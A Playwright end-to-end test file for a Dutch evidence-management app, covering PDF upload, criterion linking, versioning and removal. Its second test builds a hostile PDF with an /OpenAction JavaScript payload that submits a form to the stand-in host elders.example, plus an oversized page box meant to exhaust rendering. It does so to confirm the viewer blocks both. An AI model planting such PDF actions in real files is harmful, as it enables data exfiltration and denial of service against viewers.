import { demoPdf } from '#db/seed/demo-file.ts';
import { openAssessment } from '../support/demo.ts';
import { expect, expectAccessible, scriptRuns, test } from '../support/e2e.ts';

const pdf = (name: string, pages: number) => ({
  name: `${name}.pdf`,
  mimeType: 'application/pdf',
  buffer: Buffer.from(demoPdf(name, pages)),
});

test('a file supports two criteria, opens at its page, gives way to a newer version, and is taken away', async ({
  server,
  signedIn,
}) => {
  const { assessmentId } = await openAssessment(server.db, 'duinrand.example');
  const page = await signedIn('coordinator@duinrand.example');
  await page.goto(`/assessments/${assessmentId}/evidence`);
  await page.locator('summary', { hasText: 'Bestand toevoegen' }).click();
  await page.getByLabel('Bestand', { exact: true }).setInputFiles(pdf('Protocol klachten', 6));
  await page.getByRole('button', { name: 'Bestand toevoegen' }).click();
  await page.getByRole('link', { name: 'Protocol klachten', exact: true }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Protocol klachten' })).toBeVisible();

  await page.locator('summary', { hasText: /^\s*IV / }).click();
  await page.getByRole('checkbox', { name: /^IV\.2\.a/ }).check();
  await page.getByRole('textbox', { name: /IV\.2\.a$/ }).fill('blz. 2');
  await page.getByRole('checkbox', { name: /^IV\.3\.a/ }).check();
  await page.getByRole('textbox', { name: /IV\.3\.a$/ }).fill('blz. 5');
  await page.getByRole('button', { name: 'Koppelingen opslaan' }).click();
  await expect(page.getByText('Gekoppeld: 2.')).toBeVisible();

  await page.getByRole('link', { name: 'Het bestand: blz. 5' }).click();
  const viewer = page.getByRole('region', { name: 'Weergave van Protocol klachten' });
  await expect(viewer).toContainText('Bladzijde 5 van 6');
  await expectAccessible(page);
  await viewer.getByRole('button', { name: 'Vorige bladzijde' }).click();
  await expect(viewer).toContainText('Bladzijde 4 van 6');

  const older = page.url().replace(/[?#].*$/, '');
  await page.locator('summary', { hasText: 'Vervangen door een nieuwere versie' }).click();
  await page.getByLabel('Nieuwere versie', { exact: true }).setInputFiles(pdf('Protocol klachten 2027', 3));
  await page.getByRole('button', { name: 'Nieuwere versie toevoegen' }).click();
  await expect(page.getByRole('heading', { name: 'Welke criteria gaan over naar deze versie?' })).toBeVisible();
  await page
    .getByRole('checkbox', { name: /^IV\.3\.a/ })
    .first()
    .uncheck();
  await page.getByRole('button', { name: 'Overzetten naar deze versie' }).click();
  const versions = page.getByRole('list', { name: /^Versies van dit bewijsstuk/ }).locator('> li');
  await expect(versions.nth(1)).toContainText('Gebruikt bij IV.3.a');
  await expect(versions.first()).toContainText('Gebruikt bij IV.2.a');

  const newer = page.url();
  await page.goto(older);
  await expect(page.getByText('Er is een nieuwere versie.')).toBeVisible();
  const href = await page.getByRole('link', { name: 'Downloaden Versie 1' }).getAttribute('href');
  expect(await (await page.request.get(String(href))).body()).toEqual(pdf('Protocol klachten', 6).buffer);

  await page.goto(newer);
  await page.locator('summary', { hasText: 'Weghalen' }).click();
  await page.getByRole('button', { name: 'Weghalen' }).click();
  await expect(page).toHaveURL(new RegExp(`/assessments/${assessmentId}/evidence$`));
  await expect(page.getByRole('listitem').filter({ hasText: 'Protocol klachten' })).toContainText('IV.3.a');
});

test('a hostile file harms nobody who looks at it', async ({ server, signedIn }) => {
  const { assessmentId } = await openAssessment(server.db, 'duinrand.example');
  const page = await signedIn('reader@duinrand.example');
  await page.goto(`/assessments/${assessmentId}/evidence?q=Handboek`);
  await page.getByRole('link', { name: 'Handboek claimafhandeling' }).click();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  let body = Buffer.from('');
  await page.route('**/api/evidence/*', (route) => route.fulfill({ contentType: 'application/pdf', body }));
  const look = async (bytes: string) => {
    body = Buffer.from(bytes, 'latin1');
    await page.getByRole('button', { name: /Hier bekijken|Sluiten/ }).click();
  };

  await page.getByRole('button', { name: /Hier bekijken/ }).waitFor();
  await scriptRuns(page, 'main button');
  await look('%PDF-1.7 and nothing that follows');
  await expect(page.getByText('Dit bestand kan hier niet worden getoond')).toBeVisible();

  const active = Buffer.from(demoPdf('Actief')).toString('latin1');
  const action = '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://elders.example/")) >>';
  await look(
    active
      .replace('/Type /Catalog', `/Type /Catalog ${action}`)
      .replace('[0 0 595 842]', '[0 0 1000000000 1000000000]'),
  );
  await expect(page.getByRole('region', { name: /^Weergave van/ })).toContainText('van 1');
  const canvas = page.locator('.viewer-sheet canvas');
  await expect.poll(() => canvas.evaluate((drawn: HTMLCanvasElement) => drawn.width * drawn.height)).toBeGreaterThan(1);
  expect(await canvas.evaluate((drawn: HTMLCanvasElement) => drawn.width * drawn.height)).toBeLessThan(17_000_000);
  expect(asked.filter((url) => !url.startsWith(server.origin))).toEqual([]);
});
